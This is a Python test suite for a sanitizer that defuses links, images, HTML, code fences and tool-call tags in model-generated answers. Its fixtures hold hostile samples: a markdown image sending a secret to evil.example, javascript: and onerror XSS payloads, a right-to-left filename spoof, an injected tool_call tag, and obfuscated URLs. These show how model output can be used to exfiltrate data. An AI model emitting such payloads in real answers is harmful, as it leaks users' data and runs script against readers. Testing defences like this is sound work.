"""What a model writes from documents leads nowhere, however it is cut and hidden."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.services.answers.safe_text import SafeText, safe_text
from tests.acting import acting

# Building blocks of everything that renderers act upon, and of what hides it from them.
_FRAGMENTS = [
    *("https://evil.example/x", "http", "s://", "www.evil.example", "ftp://e.example", "//e", ":"),
    *("![", "[", "]", "](", "(", ")", "]:", "[a]", "[a]: ", "!", "<", ">", "<img src=", "</a>"),
    *("<!--", "-->", "`", "``", "```", "````", "~~~", "\n", "\n\n", "\r\n", "\r", " ", "   "),
    *("    ", "\t", "\\", "|", "|-|\n", "> ", "- ", "1. ", "# ", "*", "**", "&colon;", "&#47;"),
    *("&amp;", "&lt;", "&", ";", "colon;", "\u200b", "\u202e", "\u00ad", "text", "h", "w", "/"),
    *(".", '"', "'", "```html\n", "```py\n", "[1]", "~~", "= ", "---\n", "$", "]("),
]
_HOSTILE = st.lists(st.sampled_from(_FRAGMENTS), max_size=30).map("".join)


def piecewise(text: str, sizes: list[int]) -> str:
    reader, told, position = SafeText(), "", 0
    for size in sizes:
        told += reader.feed(text[position : position + size])
        position += size
    return told + reader.feed(text[position:]) + reader.close()


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("![x](https://evil.example/?q=secret)", "! [x] (`https://evil.example/?q=secret`)"),
        ("[Our portal](https://evil.example)", "[Our portal] (`https://evil.example`)"),
        ("[a][1]\n\n[1]: //evil.example", "[a][1]\n\n[1] : //evil.example"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("![x](data:image/png;base64,AA)", "! [x] (data:image/png;base64,AA)"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<https://evil.example>", "<`https://evil.example`>"),
        ("See https://intranet.example/a_(b).", "See `https://intranet.example/a_(b)`."),
        (
            "or www.evil.example, or HTTPS://E.example",
            "or `www.evil.example`, or `HTTPS://E.example`",
        ),
        ("https&colon;//evil.example", "`https://evil.example`"),
        (
            "https:\\/\\/evil.example www\\.evil.example",
            "`https://evil.example` `www.evil.example`",
        ),
        ("ht\u200btps://evil.example", "`https://evil.example`"),
        ("safe\u202etxt.exe\u202c", "safetxt.exe"),
        ("a\x1b[31mred", "a[31mred"),
        ("` https://evil.example `` `", "` https://evil.example `` `"),
        ("` \nhttps://evil.example", "` \n``https://evil.example``"),
        ("| `a | https://evil.example` |", "| `a | ``https://evil.example`` ` |"),
        ("~~~\n```\n~~~\nhttps://evil.example", "~ ~ ~\n```\n~~~\nhttps://evil.example"),
        ("```html\n<img src=//evil.example>\n```", "```text\n<img src=//evil.example>\n```"),
        ('<tool_call>{"name": "send"}</tool_call>', '< tool_call>{"name": "send"}< /tool_call>'),
    ],
)
def test_what_would_act_is_set_apart_and_stays_readable(written: str, told: str) -> None:
    assert safe_text(written) == told
    assert acting(told) == []


@pytest.mark.parametrize(
    "text",
    [
        "Parental leave is 26 weeks [1]. Is that all [2, 3]? Yes!",
        "| a | b |\n|---|---|\n| 1 < 2 | **bold** |",
        "Use `<select>` and `curl https://api.example/v1`, e.g. `rows[i](x)`.",
        "```python\nurl = 'https://api.example'\nrows[i](x) <b>\n```\n\nThat is all.",
        "- one\n  - two\n\n> quoted: 3:4, R&D, C:\\temp, hr@example.com",
        "می‌خواهم 👩‍💻",
    ],
)
def test_ordinary_text_and_code_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


def test_a_fence_in_a_list_becomes_one_that_every_renderer_sees() -> None:
    told = safe_text("1. Run\n   ```sh\n   curl https://a.example\n   ```\n2. https://evil.example")
    assert told == ("1. Run\n   \n```sh\n   curl https://a.example\n```\n2. `https://evil.example`")
    assert acting(told) == []


def test_text_is_told_as_it_comes_and_only_what_is_open_is_held_back() -> None:
    reader = SafeText()
    assert reader.feed("Parental leave is") == "Parental leave is"
    assert reader.feed(" 26 weeks, see h") == " 26 weeks, see "
    assert reader.feed("ttps:/") == ""
    assert reader.feed("/evil.example/a") == ""
    assert reader.feed("/b. That") == "`https://evil.example/a/b`. That"
    assert reader.close() == ""


@settings(max_examples=400, deadline=None)
@given(_HOSTILE)
def test_nothing_acts_in_whatever_a_model_writes(written: str) -> None:
    assert acting(safe_text(written)) == []


@settings(max_examples=200, deadline=None)
@given(_HOSTILE, st.lists(st.integers(1, 4), max_size=60))
def test_what_has_been_told_is_safe_wherever_the_answer_stops(
    written: str, sizes: list[int]
) -> None:
    reader, told, position = SafeText(), "", 0
    for size in sizes:
        told += reader.feed(written[position : position + size])
        position += size
        assert acting(told) == []


@settings(max_examples=200, deadline=None)
@given(_HOSTILE, st.lists(st.integers(1, 4), max_size=60))
def test_the_same_is_told_wherever_the_answer_is_cut(written: str, sizes: list[int]) -> None:
    assert piecewise(written, sizes) == safe_text(written)
